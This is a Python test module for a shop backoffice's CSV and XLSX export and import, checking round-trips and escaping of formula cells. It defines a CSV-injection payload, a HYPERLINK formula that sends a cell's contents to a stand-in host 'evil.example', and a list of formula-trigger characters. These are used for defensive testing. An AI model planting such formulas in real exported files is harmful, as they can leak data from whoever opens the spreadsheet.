"""What is exported can be imported, and changes nothing; and no cell of it runs."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator, Sequence
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from deployments.backoffice.exports.desk import ExportDesk
from deployments.backoffice.exports.kinds import ExportKind
from deployments.backoffice.exports.rows import CatalogRows
from deployments.backoffice.formats.items import ImportKind
from deployments.backoffice.tables.numbers import ExactNumber, Mark, decimal_of
from deployments.backoffice.tables.safe_cells import shielded, unshielded
from deployments.backoffice.tables.separated import separated_rows
from deployments.backoffice.tables.workbook import workbook_rows
from deployments.backoffice.tables.writing import Cell, FileFormat, Table, written
from deployments.catalog.contract.documents import SaveProduct
from deployments.catalog.contract.products import OptionValue, Product, Variant
from deployments.foundation.values.clock import utc_now
from deployments.orders.contract import OrdersApi
from deployments.pricing.contract import DiscountCode
from deployments.pricing.contract.codes import BuyGet, SaveCode, Scope
from deployments.staff.contract import StaffApi
from tests.unit.backoffice.imports.shop import ADA, SKU, Shop

FORMATS: list[FileFormat] = ["csv", "xlsx"]
RUNS = ("=", "+", "-", "@", "\t", "\r", "\n")
HARM = '=HYPERLINK("http://evil.example?x="&A1)'


def desk(shop: Shop) -> ExportDesk:
    orders = shop.host.connect(OrdersApi, app="orders")
    staff = shop.host.connect(StaffApi, app="staff")
    goods = CatalogRows(shop.catalog, shop.inventory)
    return ExportDesk(goods, orders, shop.pricing, staff, utc_now)


async def exported(shop: Shop, kind: ExportKind, as_: FileFormat) -> bytes:
    parts = [part async for part in written(desk(shop).table(kind), as_)]
    return b"".join(parts)


async def odd_things(shop: Shop) -> None:
    """A product and codes with all that a file could trip over."""
    names = ["a,b", 'say "x"', "two\nlines", "; | > \\", "'=1", HARM, "-5", "Ω 10 €", " blank "]
    variants = tuple(
        Variant(
            id=f"ODD-{n}",
            sku=f"ODD-{n}",
            product_id="odd",
            title=name,
            description=name,
            price=n * 101,
            options=tuple(OptionValue(name=f"O{k}", label=f"{k}") for k in range(n % 6)),
            weight_grams=n or None,
            on_sale_from=utc_now() if n % 2 else None,
        )
        for n, name in enumerate(names)
    )
    product = Product(
        id="odd",
        title=HARM,
        description="\n".join(names),
        categories=("A > B", "C"),
        variants=variants,
    )
    await shop.catalog.save_product(SaveProduct(author=ADA, product=product, state="draft"))
    codes = [
        DiscountCode(
            code="ODD",
            title="@sum",
            kind="buy_get",
            starts=utc_now(),
            ends=utc_now(),
            minimum_subtotal=1250,
            max_redemptions=7,
            scope=Scope(skus=frozenset({SKU, "A|B"}), categories=frozenset({"Bikes > Road"})),
            buy_get=BuyGet(buy=2, get=1, percent="50", gets=Scope(skus=frozenset({"X"}))),
            combinable=True,
        ),
        DiscountCode(
            code="off", title="", kind="amount", amount=999, starts=utc_now(), ends=utc_now()
        ),
    ]
    for code in codes:
        await shop.pricing.save_code(SaveCode(author=ADA, code=code))


@pytest.mark.parametrize("as_", FORMATS)
@pytest.mark.parametrize("kind", ["products", "prices", "codes"])
async def test_an_export_changes_nothing_when_it_comes_back(
    shop: Shop, kind: ImportKind, as_: FileFormat
) -> None:
    await odd_things(shop)
    await shop.refresh()
    run = await shop.hand_in(kind, await exported(shop, kind, as_))
    assert run.state == "ready", run.trouble
    assert await shop.refused(run) == []
    assert await shop.desk.changes(run.id) == []
    assert (run.checked.new, run.checked.changed) == (0, 0)
    assert run.checked.same > 1
    assert run.left_out == ()


async def test_an_export_of_the_stock_asks_for_nothing_until_it_is_filled_in(shop: Shop) -> None:
    file = (await exported(shop, "stock", "csv")).decode("utf-8-sig")
    run = await shop.hand_in("stock", file)
    assert (run.state, run.checked.all) == ("failed", 0)
    rows = list(csv.DictReader(io.StringIO(file)))
    row = next(one for one in rows if one["sku"] == SKU)
    row["counted"] = str(int(row["on_hand"]) + 3)
    text = io.StringIO()
    writer = csv.DictWriter(text, list(row))
    writer.writeheader()
    writer.writerow(row)
    done = await shop.imported("stock", text.getvalue())
    assert done.made.changed == 1
    assert (await shop.on_hand())[int(row["location_id"])] == int(row["counted"])


@pytest.mark.parametrize("as_", FORMATS)
@pytest.mark.parametrize("kind", ["products", "codes"])
async def test_no_cell_runs_as_a_formula(shop: Shop, kind: ExportKind, as_: FileFormat) -> None:
    await odd_things(shop)
    await shop.refresh()
    content = io.BytesIO(await exported(shop, kind, as_))
    rows = list(workbook_rows(content) if as_ == "xlsx" else separated_rows(content)[1])
    cells = [cell for _, row in rows for cell in row if not isinstance(cell, ExactNumber)]
    assert any("HYPERLINK" in cell or "@sum" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(RUNS)] == []


async def test_an_export_of_orders_and_customers_has_its_columns(shop: Shop) -> None:
    for kind in ("orders", "customers"):
        text = (await exported(shop, kind, "csv")).decode("utf-8-sig")
        assert next(csv.reader([text])).count("currency") == 1


TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\n\t"), max_size=30
)


@given(TEXT)
def test_a_shielded_text_is_read_as_it_was_and_never_runs(text: str) -> None:
    assert unshielded(shielded(text)) == text
    assert not shielded(text).startswith(RUNS)


@pytest.mark.parametrize("as_", FORMATS)
@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.lists(st.one_of(TEXT, st.integers(0, 10**9)), min_size=3, max_size=3)))
async def test_what_is_written_is_read_again(as_: FileFormat, rows: list[list[Any]]) -> None:
    async def all_rows() -> AsyncIterator[Sequence[Cell]]:
        for row in rows:
            yield row

    parts = [part async for part in written(Table(("a", "b", "c"), all_rows()), as_)]
    content = io.BytesIO(b"".join(parts))
    found = list(workbook_rows(content) if as_ == "xlsx" else separated_rows(content)[1])
    read = [[unshielded(cell) for cell in row] for _, row in found[1:]]
    wanted = [[str(cell) for cell in row] for row in rows]
    padded = [[*row, *[""] * (3 - len(row))] for row in read]
    assert padded == [row for row in wanted if any(cell.strip() for cell in row)]


@given(st.decimals(0, 10**9, places=2), st.sampled_from([".", ","]))
def test_an_amount_is_read_as_it_was_written(amount: Decimal, mark: Mark) -> None:
    text = f"{amount:,.2f}"
    if mark == ",":
        text = text.translate(str.maketrans(",.", ".,"))
    assert decimal_of(text, mark) == amount
